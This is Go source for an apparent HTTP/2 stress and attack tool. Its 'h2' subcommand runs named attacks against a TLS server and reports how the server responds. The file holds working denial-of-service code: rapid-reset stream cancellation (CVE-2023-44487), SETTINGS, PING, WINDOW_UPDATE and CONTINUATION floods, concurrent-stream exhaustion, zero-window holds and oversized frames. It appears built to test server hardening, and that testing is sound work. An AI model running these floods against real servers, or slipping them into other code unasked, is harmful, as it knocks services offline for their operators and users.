package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"sort"
	"strings"
	"time"
)

// h2Config is what the h2 subcommand was asked to do.
type h2Config struct {
	addr     string
	attack   string
	token    string
	path     string
	duration time.Duration
	count    int
	// large-headers: the bytes of header values, in how many fields, in frames of how many bytes.
	headerBytes int
	fields      int
	fragment    int
}

// h2Report is h2's JSON report.
type h2Report struct {
	Attack                     string         `json:"attack"`
	FramesSent                 int            `json:"framesSent"`
	BytesSent                  int            `json:"bytesSent"`
	StreamsOpened              int            `json:"streamsOpened"`
	FramesReceived             map[string]int `json:"framesReceived"`
	GoAway                     *goAwayReport  `json:"goAway"`
	Resets                     map[string]int `json:"resets"`
	Statuses                   map[string]int `json:"statuses"`
	ServerMaxConcurrentStreams *uint32        `json:"serverMaxConcurrentStreams"` // null: not advertised (unlimited)
	ServerMaxFrameSize         uint32         `json:"serverMaxFrameSize"`
	ServerMaxHeaderListSize    *uint32        `json:"serverMaxHeaderListSize"` // null: not advertised (unlimited)
	Ended                      string         `json:"ended"`
	ClosedByServer             bool           `json:"closedByServer"`
	ElapsedSeconds             float64        `json:"elapsedSeconds"`
}

// h2Attack is one -attack kind.
type h2Attack struct {
	run func(c *h2Conn, cfg h2Config) attackEnd
	// defaultCount is -count's default (streams to open), 0 where -count means nothing.
	defaultCount int
	// keepsWindows: never send WINDOW_UPDATE for DATA received, so responses stay unfinished.
	keepsWindows bool
	// deaf: the socket is not read while the attack runs, only after.
	deaf bool
	// zeroWindow: SETTINGS_INITIAL_WINDOW_SIZE 0, so the server cannot send any DATA.
	zeroWindow bool
	// prelude: frames sent in the same write as the preface, before the server's SETTINGS arrive.
	prelude func(c *h2Conn, cfg h2Config) []byte
}

// h2Attacks are the -attack kinds.
var h2Attacks = map[string]h2Attack{
	"rapid-reset":         {run: rapidReset},
	"settings-flood":      {run: settingsFlood},
	"ping-flood":          {run: pingFlood, deaf: true},
	"window-update-flood": {run: windowUpdateFlood},
	"stream-limit":        {run: streamLimit, defaultCount: 300, keepsWindows: true},
	"oversized-frame":     {run: oversizedFrame},
	"continuation-flood":  {run: continuationFlood},
	"zero-window":         {run: streamLimit, defaultCount: 10, keepsWindows: true, zeroWindow: true},
	"ping-bad-length":     {run: pingBadLength},
	"ping-on-stream":      {run: pingOnStream},
	"headers-on-closed":   {run: headersOnClosed},
	"headers-after-reset": {run: headersAfterReset},
	"headers-half-closed": {run: headersOnHalfClosed},
	"large-headers":       {run: largeHeaders, prelude: largeHeadersPrelude},
}

// attackEnd is how an attack stopped, from the client's side.
type attackEnd int

const (
	endDuration    attackEnd = iota // it ran for -duration
	endServer                       // the server sent GOAWAY or closed the connection
	endWriteFailed                  // a write failed (h2Conn.writeErr)
)

// floodBatch is how many frames a flood writes per write call.
const floodBatch = 100

// drainIdle and drainLimit bound the reading after an attack: until a frame-less drainIdle, at
// most drainLimit.
const (
	drainIdle  = time.Second
	drainLimit = 5 * time.Second
)

// h2Command parses h2's flags and runs the attack.
func h2Command(args []string) (interface{}, error) {
	flags := flag.NewFlagSet("h2", flag.ContinueOnError)
	var cfg h2Config
	flags.StringVar(&cfg.addr, "addr", "", "host:port of the TLS server (required)")
	flags.StringVar(&cfg.attack, "attack", "", "the attack: "+strings.Join(h2AttackNames(), ", ")+" (required)")
	flags.StringVar(&cfg.token, "token", "", "bearer token sent with every request")
	flags.StringVar(&cfg.path, "path", "/debug/pprof/heap", "the path requested")
	flags.DurationVar(&cfg.duration, "duration", 5*time.Second, "how long the attack runs, or how long streams are held")
	flags.IntVar(&cfg.count, "count", 0, "streams opened by stream-limit (default 300) and zero-window (default 10)")
	flags.IntVar(&cfg.headerBytes, "header-bytes", 0, "large-headers: bytes of header values added to the request")
	flags.IntVar(&cfg.fields, "fields", 1, "large-headers: how many header fields carry them")
	flags.IntVar(&cfg.fragment, "fragment", defaultMaxFrameSize, "large-headers: the largest HEADERS or CONTINUATION payload sent")
	if err := parseFlags(flags, args); err != nil {
		return nil, err
	}
	attack, known := h2Attacks[cfg.attack]
	switch {
	case cfg.addr == "":
		return nil, errors.New("-addr is required")
	case !known:
		return nil, fmt.Errorf("-attack must be one of %s", strings.Join(h2AttackNames(), ", "))
	case cfg.duration <= 0:
		return nil, errors.New("-duration must be positive")
	case cfg.count < 0:
		return nil, errors.New("-count must not be negative")
	case cfg.headerBytes < 0 || cfg.fields < 1 || cfg.fragment < 1:
		return nil, errors.New("-header-bytes must not be negative, -fields and -fragment must be positive")
	}
	if cfg.count == 0 {
		cfg.count = attack.defaultCount
	}
	return runH2(cfg)
}

// h2AttackNames lists the -attack kinds, sorted.
func h2AttackNames() []string {
	var names []string
	for name := range h2Attacks {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// runH2 connects, exchanges SETTINGS, runs the attack, reads what the server still sends, and
// reports. Failing to connect, to get h2 or to get the server's SETTINGS is an error.
func runH2(cfg h2Config) (*h2Report, error) {
	start := time.Now()
	attack := h2Attacks[cfg.attack]
	c, err := dialH2(cfg.addr)
	if err != nil {
		return nil, err
	}
	c.answerPings = !attack.deaf
	c.windowUpdates = !attack.keepsWindows
	settings := []setting{{settingEnablePush, 0}}
	if attack.zeroWindow {
		settings = append(settings, setting{settingInitialWindowSize, 0})
	}
	var prelude []byte
	if attack.prelude != nil {
		prelude = attack.prelude(c, cfg)
	}
	if err := c.start(prelude, settings...); err != nil {
		c.conn.Close()
		return nil, err
	}
	if attack.deaf {
		err = c.readUntilSettings()
	} else {
		go c.readLoop()
		err = c.waitSettings()
	}
	if err != nil {
		c.conn.Close()
		return nil, err
	}
	end := attack.run(c, cfg)
	if attack.deaf {
		go c.readLoop()
	}
	c.drain()
	c.close()
	report := c.report(cfg.attack, c.ended(end, attack.deaf))
	report.ElapsedSeconds = seconds(time.Since(start))
	return report, nil
}

// drain reads on after the attack until the server closes the connection or, unless it has sent
// GOAWAY (after which it must close), drainIdle passes without a frame; at most drainLimit.
func (c *h2Conn) drain() {
	start := time.Now()
	for time.Since(start) < drainLimit && (c.sawGoAway() || time.Since(c.idleSince(start)) < drainIdle) {
		select {
		case <-c.readerDone:
			return
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// ended names how the attack ended: write-timeout, goaway, eof, reset, error or duration. What the
// server did counts when it stopped the attack, and for a deaf attack whenever it was found after.
func (c *h2Conn) ended(end attackEnd, deaf bool) string {
	c.writeMu.Lock()
	writeErr := c.writeErr
	c.writeMu.Unlock()
	if end == endWriteFailed && isTimeout(writeErr) {
		return "write-timeout"
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	serverEnd := c.readEnded
	if c.goAway != nil {
		serverEnd = "goaway"
	}
	if serverEnd != "" && serverEnd != "closed" && (end != endDuration || deaf) {
		return serverEnd
	}
	if end == endWriteFailed {
		return endReason(writeErr)
	}
	return "duration"
}

// report collects the counts.
func (c *h2Conn) report(attack, ended string) *h2Report {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.writeMu.Lock()
	defer c.writeMu.Unlock()
	return &h2Report{
		Attack:                     attack,
		FramesSent:                 c.framesSent,
		BytesSent:                  c.bytesSent,
		StreamsOpened:              int(c.nextStream / 2),
		FramesReceived:             c.framesReceived,
		GoAway:                     c.goAway,
		Resets:                     c.resets,
		Statuses:                   c.statuses,
		ServerMaxConcurrentStreams: c.maxConcurrentStreams,
		ServerMaxFrameSize:         c.maxFrameSize,
		ServerMaxHeaderListSize:    c.maxHeaderListSize,
		Ended:                      ended,
		ClosedByServer:             c.readEnded == "eof" || c.readEnded == "reset",
	}
}

// requestBlock is the header block of a GET of path.
func requestBlock(cfg h2Config) []byte {
	block := appendLiteral(nil, ":method", "GET")
	block = appendLiteral(block, ":scheme", "https")
	block = appendLiteral(block, ":authority", cfg.addr)
	block = appendLiteral(block, ":path", cfg.path)
	if cfg.token != "" {
		block = appendLiteral(block, "authorization", "Bearer "+cfg.token)
	}
	return block
}

// flood writes the frames batch appends, one write call per batch, until -duration passes, the
// server ends the connection or a write fails.
func (c *h2Conn) flood(d time.Duration, batch func(b []byte) []byte) attackEnd {
	deadline := time.Now().Add(d)
	var b []byte
	for time.Now().Before(deadline) {
		select {
		case <-c.stopped:
			return endServer
		default:
		}
		b = batch(b[:0])
		if c.write(floodBatch, b) != nil {
			return endWriteFailed
		}
	}
	return endDuration
}

// hold waits for -duration or until the server ends the connection.
func (c *h2Conn) hold(d time.Duration) attackEnd {
	select {
	case <-c.stopped:
		return endServer
	case <-time.After(d):
		return endDuration
	}
}

// openStreams sends count GETs, each a HEADERS frame with END_STREAM on a new stream, in one write.
func (c *h2Conn) openStreams(cfg h2Config) attackEnd {
	block := requestBlock(cfg)
	var b []byte
	for i := 0; i < cfg.count; i++ {
		b = appendFrame(b, frameHeaders, flagEndStream|flagEndHeaders, c.newStream(), block)
	}
	if c.write(cfg.count, b) != nil {
		return endWriteFailed
	}
	return endDuration
}

// rapidReset opens streams and cancels each at once (CVE-2023-44487), floodBatch/2 pairs per write.
func rapidReset(c *h2Conn, cfg h2Config) attackEnd {
	block := requestBlock(cfg)
	cancel := uint32Payload(codeCancel)
	return c.flood(cfg.duration, func(b []byte) []byte {
		for i := 0; i < floodBatch/2; i++ {
			stream := c.newStream()
			b = appendFrame(b, frameHeaders, flagEndStream|flagEndHeaders, stream, block)
			b = appendFrame(b, frameRSTStream, 0, stream, cancel)
		}
		return b
	})
}

// settingsFlood sends SETTINGS frames (SETTINGS_ENABLE_PUSH=0), each of which the server must ACK.
func settingsFlood(c *h2Conn, cfg h2Config) attackEnd {
	payload := settingsPayload(setting{settingEnablePush, 0})
	return c.flood(cfg.duration, func(b []byte) []byte {
		for i := 0; i < floodBatch; i++ {
			b = appendFrame(b, frameSettings, 0, 0, payload)
		}
		return b
	})
}

// pingFlood sends PING frames without reading the ACKs (the attack is deaf).
func pingFlood(c *h2Conn, cfg h2Config) attackEnd {
	var counter uint64
	return c.flood(cfg.duration, func(b []byte) []byte {
		for i := 0; i < floodBatch; i++ {
			counter++
			b = appendFrame(b, framePing, 0, 0, binary.BigEndian.AppendUint64(nil, counter))
		}
		return b
	})
}

// windowUpdateFlood sends WINDOW_UPDATE frames of increment 1 on the connection.
func windowUpdateFlood(c *h2Conn, cfg h2Config) attackEnd {
	payload := uint32Payload(1)
	return c.flood(cfg.duration, func(b []byte) []byte {
		for i := 0; i < floodBatch; i++ {
			b = appendFrame(b, frameWindowUpdate, 0, 0, payload)
		}
		return b
	})
}

// streamLimit opens -count streams at once, ignoring SETTINGS_MAX_CONCURRENT_STREAMS, and holds
// them (no WINDOW_UPDATE, so long responses stay open) for -duration. zero-window is the same with
// SETTINGS_INITIAL_WINDOW_SIZE 0, like a client that stops reading.
func streamLimit(c *h2Conn, cfg h2Config) attackEnd {
	if end := c.openStreams(cfg); end != endDuration {
		return end
	}
	return c.hold(cfg.duration)
}

// oversizedFrame sends one HEADERS frame a byte longer than the server's SETTINGS_MAX_FRAME_SIZE,
// then waits for -duration (the server should answer GOAWAY FRAME_SIZE_ERROR).
func oversizedFrame(c *h2Conn, cfg h2Config) attackEnd {
	c.mu.Lock()
	size := int(c.maxFrameSize) + 1
	c.mu.Unlock()
	if c.write(1, oversizedHeaders(c.newStream(), requestBlock(cfg), size)) != nil {
		return endWriteFailed
	}
	return c.hold(cfg.duration)
}

// oversizedHeaders is a HEADERS frame (END_STREAM, END_HEADERS, PADDED) whose payload is exactly
// size bytes: the pad length, block, an x-padding field, then padding.
func oversizedHeaders(stream uint32, block []byte, size int) []byte {
	fragment := appendLiteral(append([]byte(nil), block...), "x-padding", strings.Repeat("a", size-len(block)-32))
	padding := size - 1 - len(fragment)
	payload := append([]byte{byte(padding)}, fragment...)
	payload = append(payload, make([]byte, padding)...)
	return appendFrame(nil, frameHeaders, flagEndStream|flagEndHeaders|flagPadded, stream, payload)
}

// continuationFlood starts a request whose header block never ends: HEADERS without END_HEADERS,
// then CONTINUATION frames of one small field each.
func continuationFlood(c *h2Conn, cfg h2Config) attackEnd {
	stream := c.newStream()
	if c.write(1, appendFrame(nil, frameHeaders, flagEndStream, stream, requestBlock(cfg))) != nil {
		return endWriteFailed
	}
	field := appendLiteral(nil, "x-flood", "aaaaaaaaaaaaaaaa")
	return c.flood(cfg.duration, func(b []byte) []byte {
		for i := 0; i < floodBatch; i++ {
			b = appendFrame(b, frameContinuation, 0, stream, field)
		}
		return b
	})
}
